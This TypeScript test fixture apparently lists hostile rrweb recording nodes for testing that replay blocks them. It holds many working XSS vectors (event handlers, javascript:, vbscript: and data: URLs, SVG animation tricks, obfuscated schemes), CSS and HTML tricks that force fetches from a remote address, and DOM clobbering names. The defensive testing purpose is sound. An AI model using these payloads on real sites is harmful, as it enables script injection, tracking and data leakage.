/**
 * What a hostile recording may hold: nodes that would run a script in the
 * viewer's browser, or make it ask the attacker's server for something.
 */

import { element, type RecordedNode, svg } from "../support/recorded";

/** Marks the window it runs in, and every window it can reach. */
export const SCRIPT = "document.title='pwned';window.__pwned=1;parent.__pwned=1;top.__pwned=1";

const SCRIPT_PAGE = `<script>${SCRIPT}</script>`;
const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";

/** Nodes that would run {@link SCRIPT}. */
export function scripts(): RecordedNode[] {
  const inSvg = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT_PAGE}</svg>`;
  return [
    element("script", {}, SCRIPT),
    element("SCRIPT", {}, SCRIPT),
    element("ScRiPt", { type: "module" }, SCRIPT),
    element("script", { src: `data:text/javascript,${SCRIPT}` }),
    svg("script", {}, SCRIPT),
    svg("SCRIPT", {}, SCRIPT),
    svg("svg", { onload: SCRIPT }),
    svg("svg", {}, svg("animate", { onbegin: SCRIPT, attributeName: "x", dur: "1s" })),
    svg("svg", {}, svg("set", { attributeName: "onmouseover", to: SCRIPT })),
    svg("svg", {}, svg("foreignObject", {}, element("iframe", { srcdoc: SCRIPT_PAGE }))),
    element("img", { src: "data:,", onerror: SCRIPT }),
    element("img", { src: PIXEL, ONLOAD: SCRIPT }),
    element("details", { open: "", ontoggle: SCRIPT }, "details"),
    element("input", { autofocus: "", onfocus: SCRIPT }),
    element(
      "video",
      { src: "data:,", onerror: SCRIPT },
      element("source", { src: "data:,", onerror: SCRIPT }),
    ),
    element("marquee", { onstart: SCRIPT }, "marquee"),
    element(
      "div",
      { style: "animation: a 1s", onanimationstart: SCRIPT },
      element("style", {}, "@keyframes a{}"),
    ),
    element("body", { onload: SCRIPT, onpageshow: SCRIPT }),
    element("iframe", { srcdoc: SCRIPT_PAGE }),
    element("iframe", { src: `javascript:${SCRIPT}` }),
    element("iframe", { src: `data:text/html,${SCRIPT_PAGE}`, sandbox: "allow-scripts allow-same-origin" }),
    element("frame", { src: `java\nscript:${SCRIPT}` }),
    element("object", { data: `data:text/html,${SCRIPT_PAGE}` }),
    element("object", { data: `javascript:${SCRIPT}` }),
    element("embed", { src: `data:image/svg+xml,${inSvg}`, type: "image/svg+xml" }),
    element("embed", { src: `\u0001JavaScript:${SCRIPT}` }),
    element("portal", { src: `javascript:${SCRIPT}` }),
    element("a", { href: ` \tjava\tscript:${SCRIPT}`, autofocus: "" }, "link"),
    element("a", { href: `vbscript:${SCRIPT}` }, "link"),
    element(
      "form",
      { action: `javascript:${SCRIPT}` },
      element("button", { formaction: `javascript:${SCRIPT}` }),
    ),
    element("x-element", { onfocus: SCRIPT, tabindex: "0", autofocus: "" }),
    { ...element("x-made", { onclick: SCRIPT }), isCustom: true },
    shadow(element("script", {}, SCRIPT), element("img", { src: "data:,", onerror: SCRIPT })),
    element("template", {}, element("script", {}, SCRIPT)),
    element("meta", { "http-equiv": "refresh", content: `0;url=javascript:${SCRIPT}` }),
    element("script", { type: "speculationrules" }, '{"prerender":[{"source":"list","urls":["/"]}]}'),
  ];
}

/** Nodes with the address of something that would be fetched, or gone to. */
export function addresses(remote: (name: string) => string): RecordedNode[] {
  return [
    element("img", { src: remote("img") }),
    element("img", { srcset: `${remote("srcset")} 1x, ${remote("srcset2")} 2x` }),
    element("img", { rr_dataURL: remote("rr-data-url") }),
    element("canvas", { rr_dataURL: remote("canvas") }),
    element(
      "picture",
      {},
      element("source", { srcset: remote("source") }),
      element("img", { src: remote("picture") }),
    ),
    element("input", { type: "image", src: remote("input") }),
    element("video", { src: remote("video"), poster: remote("poster"), autoplay: "" }),
    element(
      "video",
      {},
      element("source", { src: remote("video-source") }),
      element("track", { src: remote("track") }),
    ),
    element("audio", { src: remote("audio"), preload: "auto" }),
    element("iframe", { src: remote("iframe") }),
    element("iframe", { srcdoc: `<img src="${remote("srcdoc")}">` }),
    element("frame", { src: remote("frame") }),
    element("object", { data: remote("object") }),
    element("embed", { src: remote("embed") }),
    element("portal", { src: remote("portal") }),
    element("fencedframe", { src: remote("fencedframe") }),
    element("table", { background: remote("background") }),
    element("a", { href: remote("ping-target"), ping: remote("ping") }, "link"),
    element("html", { manifest: remote("manifest") }),
    element("script", { src: remote("script") }),
    svg("svg", {}, svg("image", { href: remote("svg-image") })),
    svg("svg", {}, svg("image", { "xlink:href": remote("xlink") })),
    svg("svg", {}, svg("use", { href: `${remote("use")}#a` })),
    svg("svg", {}, svg("filter", {}, svg("feImage", { href: remote("feimage") }))),
    svg("svg", {}, svg("script", { href: remote("svg-script") })),
    shadow(element("img", { src: remote("shadow") })),
    element("noscript", {}, element("img", { src: remote("noscript") })),
    ...headNodes(remote),
  ];
}

/** Nodes that would act on the whole document. */
function headNodes(remote: (name: string) => string): RecordedNode[] {
  const links = ["stylesheet", "alternate stylesheet", "prefetch", "preconnect", "dns-prefetch", "prerender"];
  const loads = ["modulepreload", "manifest", "icon", "apple-touch-icon", "preload", "PREFETCH", "next"];
  return [
    ...[...links, ...loads].map((rel) => element("link", { rel, href: remote(`link-${rel}`), as: "image" })),
    element("link", { rel: "preload", as: "image", imagesrcset: `${remote("imagesrcset")} 1x` }),
    element("base", { href: remote("base/"), target: "_top" }),
    element("meta", { "http-equiv": "refresh", content: `0;url=${remote("refresh")}` }),
    element("meta", { "http-equiv": "content-security-policy", content: "style-src 'none'" }),
    element("meta", { "http-equiv": "Content-Security-Policy", content: "style-src 'none'" }),
    element("meta", { name: "referrer", content: "unsafe-url" }),
    element("META", { "HTTP-EQUIV": "Refresh", content: `0;url=${remote("refresh2")}` }),
  ];
}

/** Styles that would fetch something. */
export function styles(remote: (name: string) => string): RecordedNode[] {
  const url = (name: string) => `url("${remote(name)}")`;
  const face = `@font-face { font-family: canary; src: ${url("font")} }`;
  return [
    element("div", { style: `background: ${url("style")}; cursor: ${url("cursor")}, auto` }, "styled"),
    element("div", { style: `border-image: ${url("border")} 1; mask-image: ${url("mask")}` }, "styled"),
    element("style", {}, `@import ${url("import")}; ${face} body { font-family: canary }`),
    element("style", {
      _cssText: `body { background: ${url("css-text")} } p::after { content: ${url("content")} }`,
    }),
    element("link", {
      rel: "stylesheet",
      href: remote("sheet"),
      _cssText: `html { background: ${url("link-css")} }`,
    }),
    element("ul", { style: `list-style-image: ${url("list")}` }, element("li", {}, "item")),
    svg("svg", {}, svg("rect", { width: "9", height: "9", fill: url("fill"), filter: url("filter") })),
    ...disguised(remote),
    ...inPieces(remote),
  ];
}

/** Styles that only a browser's own way of reading finds. */
function disguised(remote: (name: string) => string): RecordedNode[] {
  const styled = (style: string) => element("div", { style }, "styled");
  const sheet = (css: string) => element("style", {}, css);
  return [
    styled(`background: u\\72l(${remote("escaped")})`),
    styled(`background: \\75 RL( "${remote("spaced")}" )`),
    styled(`background: url(${remote("escaped-in").replace("http", "h\\74tp")})`),
    styled(`background: url('${remote("open")}`),
    styled(`background: url(${remote("unclosed")}`),
    styled(`background: image-set("${remote("set")}" 1x)`),
    styled(`background: -webkit-image-set(url(${remote("webkit-set")}) 1x, "${remote("set2")}" 2x)`),
    styled(`--address: "${remote("variable")}"; background: image-set(var(--address) 1x)`),
    styled(`background: -webkit-cross-fade(url(${remote("fade")}), url(${remote("fade2")}), 50%)`),
    styled(`content: "\\\r\n"; background: url(${remote("line")}); quotes: "" ""`),
    styled(`background: /* url( */ url(/**/${remote("comment")})`),
    styled(`background: url(data:,); background-image: url(${remote("no-scheme").replace("http:", "")})`),
    styled(`filter: url(${remote("filter-file")}#a); clip-path: url(${remote("clip")}#a)`),
    styled(`shape-outside: url(${remote("shape")}); float: left; width: 9px; height: 9px`),
    sheet(`@\\69mport "${remote("escaped-import")}";`),
    sheet(`@IMPORT ${remote("bare-import")};@import url(${remote("raw-import")}) screen;`),
    sheet(`@supports (display: block) { p { background: url(${remote("supports")}) } }`),
    sheet(
      `@media all { @font-face { font-family: f; src: local("no"), url(${remote("font2")}) } p { font-family: f } }`,
    ),
    sheet(`p::before { content: url(${remote("before")}) } html { cursor: url(${remote("cursor2")}), auto }`),
    sheet(
      `@property --p { syntax: "<url>"; inherits: true; initial-value: url(${remote("property")}) } p { background: var(--p) }`,
    ),
    svg(
      "svg",
      {},
      svg("style", {}, `rect { fill: url(${remote("svg-style")}) } @import "${remote("svg-import")}";`),
    ),
    svg(
      "svg",
      {},
      svg(
        "image",
        { width: "9", height: "9" },
        svg("animate", { attributeName: "href", to: remote("animate"), dur: "1s" }),
      ),
    ),
    svg("svg", {}, svg("image", {}, svg("set", { attributeName: "xlink:href", to: remote("set-href") }))),
    svg("svg", {}, svg("rect", {}, svg("set", { attributeName: "fill", to: `url(${remote("set-fill")})` }))),
    svg(
      "svg",
      {},
      svg("path", {
        d: "M0 0h9",
        "marker-end": `url(${remote("marker")}#a)`,
        mask: `url(${remote("mask2")})`,
      }),
    ),
    element("STYLE", { _cssText: `p { background: url(${remote("upper")}) }` }),
    shadow(element("style", {}, `:host { background: url(${remote("host")}) }`)),
  ];
}

/** Styles of several texts, of which none alone fetches anything. */
function inPieces(remote: (name: string) => string): RecordedNode[] {
  /** Of each only its own is styled: of several backgrounds a browser fetches one. */
  const pieces = (name: string, attributes: Record<string, unknown>, ...css: string[]) => {
    const own = css.map((text) => text.replace("p {", `.${name} {`));
    return element("div", { class: name }, element("style", attributes, ...own), "styled");
  };
  const cut = `.cut { background: u/* rr_split */rl(${remote("cut")}) }`;
  const cutTwice = `.cut2{width:0p/* rr_split */x"}"; background: url(${remote("cut2")}) }`;
  return [
    pieces("joined", {}, "p { background: u", `rl(${remote("joined")}) }`),
    pieces("joined2", {}, "p { background: url(", `${remote("joined2")}) }`),
    pieces("joined3", {}, "p { background: image-set(", `"${remote("joined3")}" 1x) }`),
    pieces("joined4", {}, "@imp", `ort "${remote("joined4")}";`),
    pieces("joined5", {}, "p { quotes: '", `'; background: url(${remote("joined5")}) }`),
    pieces("joined6", {}, "p { background: u\\", `72l(${remote("joined6")}) }`),
    pieces("joined7", {}, "p { background: u/*", `*/; background: url(${remote("joined7")}) }`),
    pieces("cut", { _cssText: cut }, "", ""),
    pieces("cut2", { _cssText: cutTwice }, "", ""),
  ];
}

/** Names that hide what rrweb asks of the document, and elements that cannot be made. */
export function clobbering(): RecordedNode[] {
  const names = [
    "defaultView",
    "documentElement",
    "body",
    "head",
    "createElement",
    "querySelector",
    "styleSheets",
  ];
  return [
    ...names.map((name) => element("form", { name, id: name })),
    ...names.map((name) => element("img", { name, id: name, src: PIXEL })),
    element("iframe", { name: "parent" }),
    { ...element("font-face", {}), isCustom: true },
    { ...element("annotation-xml", {}), isCustom: true },
    { ...element("x-made", { is: "x-made" }), isCustom: true },
  ];
}

function shadow(...children: RecordedNode[]): RecordedNode {
  const host = element("div", {}, ...children.map((child) => ({ ...child, isShadow: true })));
  return { ...host, isShadowHost: true };
}
